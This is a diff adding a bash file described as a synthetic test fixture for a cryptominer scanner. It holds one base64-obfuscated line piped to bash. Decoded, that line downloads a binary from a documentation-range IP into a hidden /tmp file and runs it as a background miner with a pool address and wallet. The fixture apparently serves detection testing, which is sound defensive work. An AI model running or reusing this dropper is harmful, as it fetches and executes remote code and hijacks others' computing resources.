@@ -1,0 +1,3 @@
+#!/bin/bash
+# SYNTHETIC TEST FIXTURE for minerscan: harmless text, never executed. Addresses are generated, hosts are documentation ranges or public pool names.
+echo Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjUveCAtbyAvdG1wLy54CmNobW9kICt4IC90bXAvLngKL3RtcC8ueCAtbyAyMDMuMC4xMTMuNTozMzMzIC11IDQxcG1ucVdlTnVnMWlrRUJtWWhhamtEb3lYSE1OZDVuU1J1QWRQd3NLV1FTZHBoRnlWV0pRM3Q3NlFOMUp0MzRZSktCZGY2dGh4WmF6WEdwbURWQ2V6Q3pWWEppbnJqIC1rIC0tZG9uYXRlLWxldmVsIDEgLUIK | base64 -d | bash
